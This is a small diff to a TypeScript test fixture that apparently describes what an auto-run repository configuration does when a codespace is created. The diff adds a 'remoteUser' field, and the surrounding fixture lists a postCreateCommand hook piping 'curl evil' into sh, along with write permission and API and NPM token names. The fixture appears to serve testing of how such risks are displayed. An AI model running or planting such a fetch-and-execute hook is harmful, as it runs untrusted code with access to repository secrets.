@@ -9,6 +9,7 @@ import { NewCodespacePage } from '../NewCodespacePage.tsx'
 /** What runs by itself in the repository that tests look at, and what that gets. */
 export const wants = {
   image: 'debian',
+  remoteUser: null,
   commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
   repositoryPermission: 'write' as const,
   secretNames: ['API_TOKEN', 'NPM_TOKEN'],
